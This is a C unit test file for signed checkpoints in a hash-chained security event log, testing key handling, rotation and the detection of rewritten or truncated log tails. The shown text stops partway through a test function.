/*
 * test_checkpoint.c: signed checkpoints (checkpoint.c) written through the
 * real event log, and their checks (ckverify.c): rewritten and cut tails,
 * key rotation, foreign and retired keys, malformed checkpoint lines; the
 * writer's anchor and log.resume (planted lines, crash, cut, shared
 * writers), rotation checkpoints, keys that sign nothing, empty logs.
 */
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <openssl/evp.h>
#include <openssl/pem.h>

#include "checkpoint.h"
#include "ckverify.h"
#include "eventlog.h"
#include "logverify.h"
#include "util.h"

#define NAME		"security-events.jsonl"
#define MAXLINES	2048
#define HOUR_US		(3600LL * 1000000)
/* A line ends ,"prev":"<64 hex>","hash":"<64 hex>"} */
#define PREV_AT(len)	((len) - LOGVERIFY_SUFFIX_LEN - 65)
#define HASH_AT(len)	((len) - LOGVERIFY_SUFFIX_LEN + 9)
#define Z64		"00000000000000000000000000000000" \
			"00000000000000000000000000000000"

struct tmp {
	char	dir[64];	/* the log folder */
	char	keys[80];	/* the key folder, beside it */
	char	key[128];	/* keys/k.key */
	char	path[128];	/* the log file */
};

/* A log read back, one line per entry. */
struct lines {
	char	*buf;
	char	*v[MAXLINES];
	size_t	 n;
};

static int	tmp_setup(void **);
static int	tmp_teardown(void **);
static void	rm_dir(const char *);
static int64_t	now_us(void);
static void	append_n(struct eventlog *, int, int);
static struct eventlog *open_signed(struct tmp *, unsigned long long,
		    unsigned long long, struct checkpoint **);
static EVP_PKEY	*signed_log(struct tmp *, unsigned long long, int,
		    const char *);
static void	lines_read(struct lines *, const char *);
static void	append_raw(const char *, const char *);
static void	lines_write(struct lines *, const char *, size_t, size_t);
static void	lines_free(struct lines *);
static int	is_checkpoint(const char *);
static void	rechain(struct lines *, size_t);
static void	writer_killed(struct tmp *, const char *, int);
static enum ckverify_result next_writer_verify(struct tmp *, EVP_PKEY *,
		    struct ckverify *);
static void	stop_noted(struct tmp *, EVP_PKEY *, struct ckverify *);
static void	planted_after_close(struct tmp *, EVP_PKEY *);
static EVP_PKEY	*pubkey(const char *);
static void	append_raw(const char *, const char *);
static enum ckverify_result verify(const char *, EVP_PKEY *, EVP_PKEY *,
		    int64_t, struct ckverify *);
static void	edit_line(char **, const char *, const char *);
static enum ckverify_result verify_with(const char *const *, size_t,
		    EVP_PKEY *, const struct checkpoint_anchor *,
		    struct ckverify *);
static void	anchor_of(struct tmp *, struct checkpoint_anchor *);
static void	reopened_left(struct tmp *, int);
static void	tail_tampered(struct tmp *, int);
static void	resume_refused(struct tmp *, int);
static void	start_afresh(struct tmp *);
static int	shared_record(struct tmp *, int);

static int
tmp_setup(void **state)
{
	struct tmp	*t = calloc(1, sizeof(*t));
	char		 base[32];

	if (t == NULL)
		return -1;
	snprintf(base, sizeof(base), "/tmp/sg-ckpt-" UTIL_MKTEMP_SUFFIX);
	if (mkdtemp(base) == NULL)
		return -1;
	snprintf(t->dir, sizeof(t->dir), "%s/logs", base);
	snprintf(t->keys, sizeof(t->keys), "%s/keys", base);
	snprintf(t->key, sizeof(t->key), "%s/k.key", t->keys);
	snprintf(t->path, sizeof(t->path), "%s/%s", t->dir, NAME);
	if (mkdir(t->dir, 0750) == -1 || mkdir(t->keys, 0700) == -1)
		return -1;
	*state = t;
	return 0;
}

/*
 * ftruncate(2) of the file refuse_truncate names fails (EPERM): a file
 * with the append-only attribute, where the writer cannot take back what
 * a short write left (eventlog_write()).
 */
static const char	*refuse_truncate;

int
ftruncate(int fd, off_t len)
{
	static int	(*real)(int, off_t);
	struct stat	 st, was;

	if (refuse_truncate != NULL && fstat(fd, &st) == 0 &&
	    stat(refuse_truncate, &was) == 0 && st.st_ino == was.st_ino &&
	    st.st_dev == was.st_dev) {
		errno = EPERM;
		return -1;
	}
	if (real == NULL)
		*(void **)&real = dlsym(RTLD_NEXT, "ftruncate");
	return real(fd, len);
}

/*
 * While trace_on, the write(2), fdatasync(2), fsync(2) and rename(2)
 * calls made (rename(2): trace_rename()), in order, each with the inode it touched: what a power
 * loss depends on (atk20r24 F1), which no test can cut. And, while
 * kill_rotate_at > 0, a write of a rotate checkpoint line puts only that
 * many bytes of it in the file and the process dies there: a writer
 * killed inside its rotate line (atk20r24 F2).
 */
struct trace_op {
	char	op;	/* 'w' write, 's' sync, 'r' rename */
	ino_t	ino;
};
static struct trace_op	trace[512];
static size_t		ntrace;
static int		trace_on;
static size_t		kill_rotate_at;

static void
trace_fd(char op, int fd)
{
	struct stat	st;

	if (trace_on && ntrace < sizeof(trace) / sizeof(trace[0]) &&
	    fstat(fd, &st) == 0) {
		trace[ntrace].op = op;
		trace[ntrace++].ino = st.st_ino;
	}
}

ssize_t
write(int fd, const void *buf, size_t len)
{
	static ssize_t	(*real)(int, const void *, size_t);

	if (real == NULL)
		*(void **)&real = dlsym(RTLD_NEXT, "write");
	trace_fd('w', fd);
	if (kill_rotate_at > 0 && len > kill_rotate_at &&
	    memmem(buf, len, "\"reason\":\"rotate\"", 17) != NULL) {
		(void)real(fd, buf, kill_rotate_at);
		_exit(0);
	}
	return real(fd, buf, len);
}

int
fdatasync(int fd)
{
	static int	(*real)(int);

	if (real == NULL)
		*(void **)&real = dlsym(RTLD_NEXT, "fdatasync");
	trace_fd('s', fd);
	return real(fd);
}

int
fsync(int fd)
{
	static int	(*real)(int);

	if (real == NULL)
		*(void **)&real = dlsym(RTLD_NEXT, "fsync");
	trace_fd('s', fd);
	return real(fd);
}

/* rename(2): below (it plants lines too); trace_rename() records it. */
static void
trace_rename(const char *from)
{
	struct stat	st;

	if (trace_on && ntrace < sizeof(trace) / sizeof(trace[0]) &&
	    lstat(from, &st) == 0) {
		trace[ntrace].op = 'r';
		trace[ntrace++].ino = st.st_ino;
	}
}

/* The index of the first (last: from the end) op on ino at or after from. */
static size_t
trace_find(char op, ino_t ino, size_t from, int last)
{
	size_t	i, found = ntrace;

	for (i = from; i < ntrace; i++)
		if (trace[i].op == op && trace[i].ino == ino) {
			found = i;
			if (!last)
				break;
		}
	return found;
}

static void
rm_dir(const char *dir)
{
	struct dirent	*de;
	DIR		*d;
	char		 p[512];

	if ((d = opendir(dir)) == NULL)
		return;
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s", dir, de->d_name);
		unlink(p);
	}
	closedir(d);
	rmdir(dir);
}

/* A new empty log folder and key folder. */
static void
tmp_renew(struct tmp *t)
{
	rm_dir(t->dir);
	rm_dir(t->keys);
	assert_int_equal(mkdir(t->dir, 0750), 0);
	assert_int_equal(mkdir(t->keys, 0700), 0);
}

static int
tmp_teardown(void **state)
{
	struct tmp	*t = *state;
	char		 base[64];

	rm_dir(t->dir);
	rm_dir(t->keys);
	snprintf(base, sizeof(base), "%s", t->dir);
	*strrchr(base, '/') = '\0';
	rmdir(base);
	free(t);
	return 0;
}

static int64_t
now_us(void)
{
	struct timespec	ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return (int64_t)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

static void
append_n(struct eventlog *log, int first, int n)
{
	json_t	*f;
	int	 i;

	for (i = 0; i < n; i++) {
		f = json_pack("{s:s, s:s, s:i}", "event", "egress.blocked",
		    "host", "h.evil.test", "n", first + i);
		assert_non_null(f);
		assert_int_equal(eventlog_append(log, f), 0);
		json_decref(f);
	}
}

/* n events appended and refused (an open is due and cannot be written). */
static void
appends_refused(struct eventlog *log, int n)
{
	json_t	*f;
	int	 i;

	for (i = 0; i < n; i++) {
		f = json_pack("{s:s, s:s}", "event", "egress.blocked", "host",
		    "early.evil.test");
		assert_non_null(f);
		assert_int_equal(eventlog_append(log, f), -1);
		json_decref(f);
	}
}

/* Open the log with a signer on t->key (made if missing). */
static struct eventlog *
open_signed(struct tmp *t, unsigned long long every,
    unsigned long long secs, struct checkpoint **ck)
{
	struct checkpoint_opts	 o = { .key_path = t->key,
				    .every_events = every, .every_secs = secs };
	struct eventlog		*log;
	char			*cause = NULL;

	assert_true(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause) >= 0);
	log = eventlog_open(t->dir, NAME, NULL, &cause);
	assert_non_null(log);
	*ck = checkpoint_new(log, &o, &cause);
	if (*ck == NULL)
		fail_msg("checkpoint_new: %s", cause);
	return log;
}

/*
 * A log of an open checkpoint, n events and a `last` checkpoint, written
 * by the real writer and signer; returns the public key.
 */
static EVP_PKEY *
signed_log(struct tmp *t, unsigned long long every, int n, const char *last)
{
	struct checkpoint	*ck;
	struct eventlog		*log;
	char			 pub[160];

	log = open_signed(t, every, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, n);
	assert_int_equal(checkpoint_write(ck, last), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	return pubkey(pub);
}

static void
lines_read(struct lines *l, const char *path)
{
	FILE	*f = fopen(path, "rb");
	long	 n;
	char	*p, *nl;

	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	rewind(f);
	l->buf = malloc((size_t)n + 1);
	assert_non_null(l->buf);
	assert_int_equal(fread(l->buf, 1, (size_t)n, f), (size_t)n);
	l->buf[n] = '\0';
	fclose(f);
	l->n = 0;
	for (p = l->buf; *p != '\0' && l->n < MAXLINES; p = nl + 1) {
		nl = strchr(p, '\n');
		assert_non_null(nl);
		*nl = '\0';
		l->v[l->n++] = strdup(p);
	}
}

/* Write lines [from, to) as the file at path. */
static void
lines_write(struct lines *l, const char *path, size_t from, size_t to)
{
	FILE	*f = fopen(path, "wb");
	size_t	 i;

	assert_non_null(f);
	for (i = from; i < to; i++)
		fprintf(f, "%s\n", l->v[i]);
	fclose(f);
}

static void
lines_free(struct lines *l)
{
	size_t	i;

	for (i = 0; i < l->n; i++)
		free(l->v[i]);
	free(l->buf);
}

static int
is_checkpoint(const char *line)
{
	return strstr(line, "\"event\":\"log.checkpoint\"") != NULL;
}

/*
 * What whoever can write the file can do: give lines [from, n) fresh
 * prev and hash values so that the chain holds again.
 */
static void
rechain(struct lines *l, size_t from)
{
	char	 hash[LOGVERIFY_HASH_HEX + 1];
	size_t	 i, len;

	for (i = from; i < l->n; i++) {
		len = strlen(l->v[i]);
		if (i > 0)
			memcpy(l->v[i] + PREV_AT(len), l->v[i - 1] +
			    HASH_AT(strlen(l->v[i - 1])), LOGVERIFY_HASH_HEX);
		assert_int_equal(logverify_hash(l->v[i], len, hash), 0);
		memcpy(l->v[i] + HASH_AT(len), hash, LOGVERIFY_HASH_HEX);
	}
}

static EVP_PKEY *
pubkey(const char *path)
{
	EVP_PKEY	*k;
	char		*cause = NULL;

	if ((k = checkpoint_pubkey_load(path, &cause)) == NULL)
		fail_msg("%s", cause);
	return k;
}

/* ckverify over path with up to two trusted keys. */
static enum ckverify_result
verify(const char *path, EVP_PKEY *k1, EVP_PKEY *k2, int64_t now,
    struct ckverify *v)
{
	struct lines		l;
	enum ckverify_result	r;
	size_t			i;

	ckverify_init(v);
	if (k1 != NULL)
		assert_int_equal(ckverify_add_key(v, k1), 0);
	if (k2 != NULL)
		assert_int_equal(ckverify_add_key(v, k2), 0);
	lines_read(&l, path);
	ckverify_file(v, path);
	for (i = 0; i < l.n; i++)
		ckverify_feed(v, l.v[i], strlen(l.v[i]));
	r = ckverify_finish(v, now);
	ckverify_release(v);
	lines_free(&l);
	return r;
}

/* The message format is the documented one, byte for byte. */
static void
test_message(void **state)
{
	struct checkpoint_fields f = {
		.seq = 42, .ts = "2026-11-30T07:57:58.123456Z",
		.prev = "ab", .reason = "timer", .key = "K", .next_key = NULL,
		.every_events = 1000, .every_secs = 60,
	};
	char	buf[CHECKPOINT_MSG_MAX];
	size_t	n;

	n = checkpoint_message(&f, buf, sizeof(buf));
	assert_string_equal(buf, "sandgate-checkpoint-v1\nseq=42\n"
	    "ts=2026-11-30T07:57:58.123456Z\nprev=ab\nreason=timer\nkey=K\n"
	    "next_key=\nevery_events=1000\nevery_secs=60\n");
	assert_int_equal(n, strlen(buf));
	assert_int_equal(checkpoint_message(&f, buf, 20), 0);
}

static void
test_b64_ts(void **state)
{
	unsigned char	raw[32];
	int64_t		us;

	memset(raw, 0, sizeof(raw));
	assert_int_equal(checkpoint_b64_decode(
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", raw, 32), 0);
	/* Not canonical (unused bits set), wrong length, bad alphabet. */
	assert_int_equal(checkpoint_b64_decode(
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB=", raw, 32), -1);
	assert_int_equal(checkpoint_b64_decode("AAAA", raw, 32), -1);
	assert_int_equal(checkpoint_b64_decode(
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA*=", raw, 32), -1);
	assert_int_equal(ckverify_parse_ts("2026-01-02T03:04:05.000006Z",
	    &us), 0);
	assert_int_equal(us, 1767323045000006LL);
	assert_int_equal(ckverify_parse_ts("2026-01-02T03:04:05Z", &us), -1);
	assert_int_equal(ckverify_parse_ts("2026-01-02T03:04:05.000006+01:00",
	    &us), -1);
	assert_int_equal(ckverify_parse_ts("2026-13-02T03:04:05.000006Z",
	    &us), -1);
	assert_true(checkpoint_reason_valid("close"));
	assert_false(checkpoint_reason_valid("closed"));
}

/*
 * A key read ahead (checkpoint_key_warm) is taken again only for the
 * same bytes at the same path: a key replaced, rewritten or swapped for
 * a symlink since is read as it is now, with every check.
 */
static void
test_key_warm(void **state)
{
	struct tmp	*t = *state;
	EVP_PKEY	*k;
	char		*cause = NULL, other[160], id1[64], id2[64], link[160];
	FILE		*f;

	snprintf(other, sizeof(other), "%s/other.key", t->keys);
	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	assert_int_equal(checkpoint_key_create(other, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	checkpoint_key_warm(t->key);
	k = checkpoint_key_load(t->key, &cause);
	assert_non_null(k);
	assert_int_equal(checkpoint_key_id(k, id1), 0);
	EVP_PKEY_free(k);
	/* another key moved onto the path: the new one */
	assert_int_equal(rename(other, t->key), 0);
	k = checkpoint_key_load(t->key, &cause);
	assert_non_null(k);
	assert_int_equal(checkpoint_key_id(k, id2), 0);
	EVP_PKEY_free(k);
	assert_string_not_equal(id1, id2);
	/* rewritten in place with no key: refused, not the one read ahead */
	checkpoint_key_warm(t->key);
	assert_non_null(f = fopen(t->key, "w"));
	fputs("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
	    f);
	fclose(f);
	assert_null(checkpoint_key_load(t->key, &cause));
	assert_non_null(strstr(cause, t->key));
	free(cause);
	/* the same bytes, now group-readable: refused */
	assert_int_equal(unlink(t->key), 0);
	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	checkpoint_key_warm(t->key);
	assert_int_equal(chmod(t->key, 0640), 0);
	assert_null(checkpoint_key_load(t->key, &cause));
	assert_non_null(strstr(cause, "readable by it alone"));
	free(cause);
	assert_int_equal(chmod(t->key, 0600), 0);
	/* a symlink put at the path to the key read ahead: refused */
	snprintf(link, sizeof(link), "%s/real.key", t->keys);
	assert_int_equal(rename(t->key, link), 0);
	assert_int_equal(symlink(link, t->key), 0);
	assert_null(checkpoint_key_load(t->key, &cause));
	free(cause);
	assert_int_equal(unlink(t->key), 0);
	assert_int_equal(rename(link, t->key), 0);
}

/*
 * An encrypted key is refused, its passphrase never asked (atk39p F1:
 * OpenSSL's prompt read the terminal or stdin while a command started):
 * here the passphrase waits on stdin, which the default prompt reads.
 */
static void
test_key_encrypted(void **state)
{
	struct tmp	*t = *state;
	EVP_PKEY	*k;
	FILE		*f;
	char		*cause = NULL;
	int		 p[2], saved;

	assert_non_null(k = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519"));
	assert_non_null(f = fopen(t->key, "w"));
	assert_int_equal(chmod(t->key, 0600), 0);
	assert_int_equal(PEM_write_PrivateKey(f, k, EVP_aes_256_cbc(),
	    (unsigned char *)"secret", 6, NULL, NULL), 1);
	fclose(f);
	EVP_PKEY_free(k);
	assert_int_equal(pipe(p), 0);
	assert_int_equal(write(p[1], "secret\nsecret\n", 14), 14);
	close(p[1]);
	saved = dup(0);
	assert_int_equal(dup2(p[0], 0), 0);
	close(p[0]);
	checkpoint_key_warm(t->key);
	k = checkpoint_key_load(t->key, &cause);
	assert_int_equal(dup2(saved, 0), 0);
	close(saved);
	assert_null(k);
	assert_non_null(strstr(cause, "encrypted"));
	free(cause);
}

/* Keys: made once, private part closed to others, never replaced. */
static void
test_keys(void **state)
{
	struct tmp	*t = *state;
	EVP_PKEY	*k, *p;
	char		*cause = NULL, pub[160], id1[64], id2[64], link[160];
	struct stat	 st;

	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	assert_int_equal(stat(t->key, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0600);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	assert_int_equal(stat(pub, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0644);
	assert_int_equal(checkpoint_key_create(t->key, (uid_t)-1, (gid_t)-1,
	    &cause), 1);
	k = checkpoint_key_load(t->key, &cause);
	assert_non_null(k);
	p = pubkey(pub);
	assert_int_equal(checkpoint_key_id(k, id1), 0);
	assert_int_equal(checkpoint_key_id(p, id2), 0);
	assert_string_equal(id1, id2);
	assert_int_equal(strlen(id1), CHECKPOINT_KEY_B64);
	EVP_PKEY_free(p);
	/* The private key file also gives the public key. */
	p = pubkey(t->key);
	EVP_PKEY_free(p);
	EVP_PKEY_free(k);
	/* Readable by the group: refused, and the cause says so. */
	chmod(t->key, 0640);
	assert_null(checkpoint_key_load(t->key, &cause));
	assert_non_null(strstr(cause, "readable by it alone"));
	free(cause);
	chmod(t->key, 0600);
	/* Not ours: refused (only root can hand it to another uid). */
	if (geteuid() == 0) {
		assert_int_equal(chown(t->key, 4242, 4242), 0);
		assert_null(checkpoint_key_load(t->key, &cause));
		assert_non_null(strstr(cause, "must belong to uid"));
		free(cause);
		assert_int_equal(chown(t->key, 0, 0), 0);
	}
	/* A symlink to the key: refused. */
	snprintf(link, sizeof(link), "%s/link.key", t->keys);
	assert_int_equal(symlink(t->key, link), 0);
	assert_null(checkpoint_key_load(link, &cause));
	free(cause);
	/* Not a key at all. */
	assert_null(checkpoint_pubkey_load("/etc/hostname", &cause));
	free(cause);
	/* Key folder and log folder. */
	assert_int_equal(checkpoint_key_outside(t->key, t->dir, &cause), 0);
	snprintf(link, sizeof(link), "%s/k.key", t->dir);
	assert_int_equal(checkpoint_key_outside(link, t->dir, &cause), -1);
	assert_non_null(strstr(cause, "is in the log folder"));
	free(cause);
}

/*
 * Count, open, timer and close checkpoints in a log written through the
 * real writer; the log verifies with the key and not with another.
 */
static void
test_sign_verify(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k, *other;
	char			 pub[160];
	size_t			 i, n = 0;

	log = open_signed(t, 5, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 12);
	assert_int_equal(checkpoint_tick(ck), 0);	/* not due yet */
	assert_int_equal(checkpoint_write(ck, "timer"), 0);
	append_n(log, 12, 3);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	/* open, 5 events, count, 5, count, 2, timer, 3, close. */
	lines_read(&l, t->path);
	assert_int_equal(l.n, 20);
	for (i = 0; i < l.n; i++)
		n += is_checkpoint(l.v[i]);
	assert_int_equal(n, 5);
	assert_non_null(strstr(l.v[0], "\"reason\":\"open\""));
	assert_non_null(strstr(l.v[6], "\"reason\":\"count\""));
	assert_non_null(strstr(l.v[12], "\"reason\":\"count\""));
	assert_non_null(strstr(l.v[15], "\"reason\":\"timer\""));
	assert_non_null(strstr(l.v[19], "\"reason\":\"close\""));
	assert_non_null(strstr(l.v[19], "\"every_events\":5,\"every_secs\":60,"));
	lines_free(&l);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	/* Long after: a closed log needs no live writer. */
	assert_int_equal(verify(t->path, k, NULL, now_us() + 24 * HOUR_US, &v),
	    CKVERIFY_OK);
	assert_int_equal(v.chain.events, 20);
	assert_int_equal(v.good, 5);
	assert_int_equal(v.after, 0);
	assert_string_equal(v.good_reason, "close");
	/* Plain check: the chain, the checkpoints only counted. */
	assert_int_equal(verify(t->path, NULL, NULL, 0, &v), CKVERIFY_OK);
	assert_int_equal(v.checkpoints, 5);
	/* Another key: nothing vouches for the log. */
	other = EVP_PKEY_Q_keygen(NULL, NULL, "ED25519");
	assert_non_null(other);
	assert_int_equal(verify(t->path, other, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.foreign, 5);
	assert_int_equal(v.untrusted.seq, 1);
	assert_non_null(strstr(v.what, "no checkpoint in the log is signed"));
	EVP_PKEY_free(other);
	EVP_PKEY_free(k);
}

/*
 * A count checkpoint goes before the next event (or in the next tick), so
 * eventlog_seq() after an append is that event's: the proxy reports it
 * as the block's seq.
 */
static void
test_seq_after_append(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct lines		 l;

	log = open_signed(t, 3, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 3);
	assert_int_equal(eventlog_seq(log), 4);
	append_n(log, 3, 1);
	assert_int_equal(eventlog_seq(log), 6);	/* checkpoint 5 first */
	append_n(log, 4, 2);
	assert_int_equal(eventlog_seq(log), 8);
	assert_int_equal(eventlog_tick(log), 0);	/* due: written now */
	assert_int_equal(eventlog_seq(log), 9);
	assert_int_equal(eventlog_tick(log), 0);	/* nothing more */
	assert_int_equal(eventlog_seq(log), 9);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 9);
	assert_non_null(strstr(l.v[4], "\"reason\":\"count\""));
	assert_non_null(strstr(l.v[8], "\"reason\":\"count\""));
	lines_free(&l);
}

/* The issue's case: the last events rewritten with fresh hashes. */
static void
test_rewritten_tail(void **state)
{
	struct tmp		*t = *state;
	struct ckverify		 v;
	struct lines		 l, m;
	EVP_PKEY		*k;
	char			*p;
	size_t			 i, o;

	k = signed_log(t, 10, 35, "close");
	/* seq 1 open, count at 12, 23, 34, close at 40 (35 events). */
	lines_read(&l, t->path);
	assert_int_equal(l.n, 40);
	/* Rewrite the last 20 lines: seq 21 on, hashes recomputed. */
	for (i = 20; i < l.n; i++)
		if ((p = strstr(l.v[i], "h.evil.test")) != NULL)
			*p = 'H';
	rechain(&l, 20);
	lines_write(&l, t->path, 0, l.n);
	/* The chain holds, as it must ... */
	assert_int_equal(verify(t->path, NULL, NULL, now_us(), &v),
	    CKVERIFY_OK);
	/* ... but checkpoint seq 23 no longer verifies: trust ends at 12. */
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.fail_at.seq, 23);
	assert_int_equal(v.fail_at.line, 23);
	assert_int_equal(v.untrusted.seq, 13);
	assert_int_equal(v.untrusted.line, 13);
	assert_non_null(strstr(v.what, "does not verify"));
	/* Without the checkpoints it cannot forge: the tail is unsigned. */
	m.n = 0;
	m.buf = NULL;
	for (i = 0, o = 0; i < l.n; i++) {
		if (i >= 20 && is_checkpoint(l.v[i]))
			continue;
		m.v[o++] = strdup(l.v[i]);
	}
	m.n = o;
	for (i = 20; i < m.n; i++) {
		/* seq renumbered to close the gaps the removal left. */
		p = strstr(m.v[i], "\"seq\":");
		assert_non_null(p);
		assert_true(i + 1 < 100);
		p[6] = (char)('0' + (i + 1) / 10);
		p[7] = (char)('0' + (i + 1) % 10);
	}
	rechain(&m, 20);
	lines_write(&m, t->path, 0, m.n);
	assert_int_equal(verify(t->path, NULL, NULL, now_us(), &v),
	    CKVERIFY_OK);
	assert_int_equal(verify(t->path, k, NULL, now_us() + HOUR_US, &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 13);
	assert_non_null(strstr(v.what, "follow the last good checkpoint "
	    "(seq 12"));
	/* Even at once: more events unsigned than the writer allows. */
	assert_int_equal(verify(t->path, k, NULL, now_us(), &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 13);
	lines_free(&m);
	lines_free(&l);
	EVP_PKEY_free(k);
}

/* A tail cut after the last checkpoint. */
static void
test_cut_tail(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*k;
	char			 pub[160];
	int64_t			 now = now_us();

	log = open_signed(t, 100, 60, &ck);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 10);
	assert_int_equal(checkpoint_write(ck, "timer"), 0);
	append_n(log, 10, 10);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	k = pubkey(pub);
	lines_read(&l, t->path);
	assert_int_equal(l.n, 23);
	/* The close and 4 events cut: the timer checkpoint is seq 12. */
	lines_write(&l, t->path, 0, 18);
	assert_int_equal(verify(t->path, NULL, NULL, now, &v), CKVERIFY_OK);
	/* Within 2 x 60 s the writer may still be running ... */
	assert_int_equal(verify(t->path, k, NULL, now, &v), CKVERIFY_OK);
	assert_int_equal(v.after, 6);
	/* ... later it must have signed them. */
	assert_int_equal(verify(t->path, k, NULL, now + 130 * 1000000LL, &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 13);
	assert_int_equal(v.untrusted.line, 13);
	assert_int_equal(v.fail_at.line, 18);
	/* Cut right after a checkpoint that is not a close. */
	lines_write(&l, t->path, 0, 12);
	assert_int_equal(verify(t->path, k, NULL, now + 130 * 1000000LL, &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 13);
	assert_int_equal(v.untrusted.line, 0);
	assert_non_null(strstr(v.what, "not with a close"));
	/* Events added after the close. */
	lines_write(&l, t->path, 0, 23);
	assert_int_equal(verify(t->path, k, NULL, now, &v), CKVERIFY_OK);
	log = eventlog_open(t->dir, NAME, NULL, NULL);
	assert_non_null(log);
	append_n(log, 20, 1);
	eventlog_close(log);
	assert_int_equal(verify(t->path, k, NULL, now, &v),
	    CKVERIFY_UNTRUSTED);
	assert_int_equal(v.untrusted.seq, 24);
	assert_non_null(strstr(v.what, "had closed the log"));
	lines_free(&l);
	EVP_PKEY_free(k);
}

/*
 * Rotation: the old key introduces the next one, which signs from then
 * on and replaces the old key's file; the old key is retired.
 */
static void
test_rotation(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint	*ck;
	struct eventlog		*log;
	struct ckverify		 v;
	struct lines		 l;
	EVP_PKEY		*old, *new, *cur;
	char			 pub[160], next[160], *cause = NULL;
	char			 id[64], oldid[64], curid[64];
	struct stat		 st;

	log = open_signed(t, 0, 60, &ck);
	snprintf(pub, sizeof(pub), "%s.pub", t->key);
	old = pubkey(pub);
	assert_int_equal(checkpoint_key_id(old, oldid), 0);
	assert_string_equal(checkpoint_key(ck), oldid);
	assert_int_equal(checkpoint_write(ck, "open"), 0);
	append_n(log, 0, 3);
	snprintf(next, sizeof(next), "%s.next", t->key);
	assert_int_equal(checkpoint_key_create(next, (uid_t)-1, (gid_t)-1,
	    &cause), 0);
	snprintf(pub, sizeof(pub), "%s.next.pub", t->key);
	new = pubkey(pub);
	assert_int_equal(checkpoint_key_id(new, id), 0);
	assert_int_equal(checkpoint_write(ck, "timer"), 0);
	/* The next key signs now and has taken the old one's place. */
	assert_string_equal(checkpoint_key(ck), id);
	assert_int_equal(stat(next, &st), -1);
	cur = checkpoint_key_load(t->key, &cause);
	assert_non_null(cur);
	assert_int_equal(checkpoint_key_id(cur, curid), 0);
	assert_string_equal(curid, id);
	EVP_PKEY_free(cur);
	append_n(log, 3, 2);
	assert_int_equal(checkpoint_write(ck, "close"), 0);
	checkpoint_free(ck);
	eventlog_close(log);
	lines_read(&l, t->path);
	/* open, 3, key (old signs, names the new), timer, 2, close. */
	assert_int_equal(l.n, 9);
	assert_non_null(strstr(l.v[4], "\"reason\":\"key\""));
	assert_non_null(strstr(l.v[4], id));
	assert_non_null(strstr(l.v[5], "\"reason\":\"timer\""));
	/* The old key alone suffices: it introduced the new one. */
	assert_int_equal(verify(t->path, old, NULL, now_us(), &v),
	    CKVERIFY_OK);
	assert_int_equal(v.good, 4);
	assert_string_equal(v.good_key, id);
	/* The new key alone: its checkpoints vouch for everything before. */
	assert_int_equal(verify(t->path, new, NULL, now_us(), &v),
	    CKVERIFY_OK);
	assert_int_equal(v.foreign, 2);
	assert_int_equal(v.good, 2);
	lines_free(&l);
	EVP_PKEY_free(new);
	EVP_PKEY_free(old);
}

/*
 * A next key found at a clean restart: the key checkpoint right after the
 * last run's close, then the open; verify notes no writer that stopped
 * without closing (an open right after a key checkpoint read as one).
 */
static void
test_key_at_clean_restart(void **state)
{
	struct tmp		*t = *state;
	struct checkpoint_opts	 o = { .key_path = t->key, .every_secs = 60 };
	struct checkpoint	*ck;
	struct eventlog		*log;
